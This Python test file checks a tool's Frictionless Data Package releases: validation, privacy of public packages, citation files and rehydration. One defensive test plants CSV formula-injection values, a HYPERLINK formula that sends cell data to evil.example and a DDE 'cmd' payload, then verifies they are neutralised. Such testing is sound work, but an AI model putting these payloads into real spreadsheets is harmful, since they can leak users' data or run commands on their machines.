"""Releases as Frictionless Data Packages: checked with the real `frictionless validate`, read back,
and rehydrated."""

from __future__ import annotations

import base64
import csv
import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from clippings import __version__
from clippings.cli import main
from clippings.datapackage import read_rows
from clippings.demo import DemoSite
from clippings.publish import load_metadata

from .conftest import LOOPBACK, rows, run_clippings
from .leaks import archive_text_runs, leaks_in_folder

FRICTIONLESS = Path(sys.executable).with_name("frictionless")


def release(*args: str) -> None:
    result = CliRunner().invoke(main, ["release", *args])
    assert result.exit_code == 0, result.output


def validate(folder: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")], capture_output=True, text=True, timeout=600
    )


@pytest.fixture(scope="module")
def public_package(demo_archive, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("package") / "metoo-public"
    release("--public", "--db", str(demo_archive), "--datapackage", str(folder))
    return folder


@pytest.fixture(scope="module")
def full_package(demo_archive, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("package") / "metoo-full"
    release("--full", "--db", str(demo_archive), "--datapackage", str(folder), "--author", "Doe, Jane")
    return folder


def descriptor(folder: Path) -> dict:
    return json.loads((folder / "datapackage.json").read_text())


def test_public_package_holds_no_run_of_twelve_words_of_any_text(demo_archive, public_package):
    assert leaks_in_folder(public_package, archive_text_runs(demo_archive)) == {}
    assert all(not row["text"] and not row["description"] for row in read_rows(public_package / "data/articles.csv"))


@pytest.mark.parametrize("package", ["public_package", "full_package"])
@pytest.mark.slow
def test_package_passes_frictionless_validate(package, request):
    folder = request.getfixturevalue(package)
    result = validate(folder)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr
    report = json.loads(result.stdout)
    assert report["valid"] and len(report["tasks"]) == len(descriptor(folder)["resources"])


def test_package_has_a_csv_per_table_with_types_and_descriptions(demo_archive, public_package, full_package):
    described = load_metadata(Path("archive"))["databases"]["archive"]["tables"]
    public = {r["name"]: r for r in descriptor(public_package)["resources"]}
    assert {"articles", "captures", "copies", "mentions", "keyword_matches", "outlets", "people", "releases"} <= set(public)
    assert not {
        "capture_bodies",
        "compression_dictionaries",
        "takedowns",
        "text_sketches",
        "outlet_lines",
        "release_snippets",
    } & set(public)
    full = {r["name"]: r for r in descriptor(full_package)["resources"]}
    assert {"capture_bodies", "compression_dictionaries", "text_sketches"} <= set(full)
    for resource in [*public.values(), *full.values()]:
        assert (public_package if resource["name"] in public else full_package).joinpath(resource["path"]).is_file()
        for field in resource["schema"]["fields"]:
            assert field["description"] == described[resource["name"]]["columns"][field["name"]].strip()
    fields = {f["name"]: f["type"] for f in public["articles"]["schema"]["fields"]}
    assert fields["id"] == "integer" and fields["title"] == "string" and fields["authors"] == "array"
    assert public["articles"]["schema"]["primaryKey"] == ["id"]
    assert {"fields": ["capture_id"], "reference": {"resource": "captures", "fields": ["id"]}} in public["articles"]["schema"][
        "foreignKeys"
    ]
    # A public package holds no raw pages, so nothing may point at them.
    assert all(k["reference"]["resource"] != "capture_bodies" for k in public["captures"]["schema"].get("foreignKeys", []))


def test_full_package_holds_the_archive(demo_archive, full_package):
    texts = {int(r["id"]): r["text"] for r in read_rows(full_package / "data/articles.csv")}
    assert texts == dict(rows(demo_archive, "SELECT id, text FROM articles"))
    bodies = {r["content_sha256"]: base64.b64decode(r["body"]) for r in read_rows(full_package / "data/capture_bodies.csv")}
    assert bodies == dict(rows(demo_archive, "SELECT content_sha256, body FROM capture_bodies"))
    hashes = [int(r["hash"]) for r in read_rows(full_package / "data/text_sketches.csv")]
    assert min(hashes) < 0  # signed 64-bit numbers stay numbers


def test_package_readme_and_citation(demo_archive, public_package, full_package):
    readme = (public_package / "README.md").read_text()
    assert "## Datasheet" in readme and "Known gaps" in readme and "clippings rehydrate" in readme
    assert all(f"data/{name}.csv" in readme for name in ("articles", "captures"))
    citation = yaml.safe_load((public_package / "CITATION.cff").read_text())
    ((title, start, end),) = rows(demo_archive, "SELECT title, window_start, window_end FROM topics")
    assert citation["cff-version"] == "1.2.0" and citation["type"] == "dataset"
    assert title in citation["title"] and start in citation["title"] and end in citation["title"]
    assert citation["references"][0]["title"] == "clippings" and citation["references"][0]["version"] == __version__
    assert citation["date-released"] == descriptor(public_package)["created"][:10]
    assert yaml.safe_load((full_package / "CITATION.cff").read_text())["authors"] == [{"name": "Doe, Jane"}]


def test_release_and_package_together(demo_archive, tmp_path):
    release(
        "--public", "--db", str(demo_archive), "--out", str(tmp_path / "public.db"), "--datapackage", str(tmp_path / "package")
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["package", "public.db"]
    assert validate(tmp_path / "package").returncode == 0


def test_package_refuses_an_existing_folder(demo_archive, tmp_path):
    (tmp_path / "package").mkdir()
    result = CliRunner().invoke(
        main, ["release", "--public", "--db", str(demo_archive), "--datapackage", str(tmp_path / "package")]
    )
    assert result.exit_code == 1 and "exists already" in result.output
    assert list(tmp_path.iterdir()) == [tmp_path / "package"] and list((tmp_path / "package").iterdir()) == []


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "sitename": "@SUM(1+1)*cmd|' /C calc'!A0",
    "published_at": "-2+3",
    "language": "\tx",
    "relevance": "'=already",
}


def test_package_neutralises_formula_cells(demo_archive, tmp_path):
    archive = tmp_path / "archive.db"
    shutil.copy(demo_archive, archive)
    conn = sqlite3.connect(archive)
    conn.execute(f"UPDATE articles SET {', '.join(f'{c} = ?' for c in HOSTILE)} WHERE id = 1", tuple(HOSTILE.values()))
    conn.commit()
    conn.close()
    release("--public", "--db", str(archive), "--datapackage", str(tmp_path / "package"))
    with (tmp_path / "package/data/articles.csv").open(newline="") as stream:
        raw = next(r for r in csv.DictReader(stream) if r["id"] == "1")
    assert all(raw[column] == "'" + value for column, value in HOSTILE.items())
    restored = next(r for r in read_rows(tmp_path / "package/data/articles.csv") if r["id"] == "1")
    assert all(restored[column] == value for column, value in HOSTILE.items())
    assert validate(tmp_path / "package").returncode == 0


@pytest.mark.slow
def test_rehydrate_restores_a_data_package(demo_archive, demo_site_port, tmp_path):
    folder = tmp_path / "package"
    release("--public", "--db", str(demo_archive), "--datapackage", str(folder))
    with DemoSite(base_port=demo_site_port):
        result = run_clippings("rehydrate", str(folder), "--no-wayback", *LOOPBACK)
    assert result.returncode == 0, result.stdout + result.stderr
    total = rows(demo_archive, "SELECT count(*) FROM articles")[0][0]
    assert f"{folder}: {total} restored, 0 changed, 0 failed" in result.stdout
    texts = {int(r["id"]): r["text"] for r in read_rows(folder / "data/articles.csv")}
    assert texts == dict(rows(demo_archive, "SELECT id, text FROM articles"))
    report = list(read_rows(folder / "data/rehydrations.csv"))
    assert len(report) == total and {r["status"] for r in report} == {"restored"}
    assert "rehydrations" in {r["name"] for r in descriptor(folder)["resources"]}
    assert validate(folder).returncode == 0
    assert sorted(p.name for p in folder.iterdir()) == ["CITATION.cff", "README.md", "data", "datapackage.json", "rehydrate.log"]


def test_rehydrate_refuses_a_folder_that_is_no_package(tmp_path):
    result = run_clippings("rehydrate", str(tmp_path))
    assert result.returncode == 1 and "datapackage.json" in result.stderr and "Traceback" not in result.stderr


def test_package_leaves_nothing_beside_it(public_package):
    """The release file a package is made from is built beside it and removed."""
    assert sorted(p.name for p in public_package.parent.iterdir()) == [public_package.name]
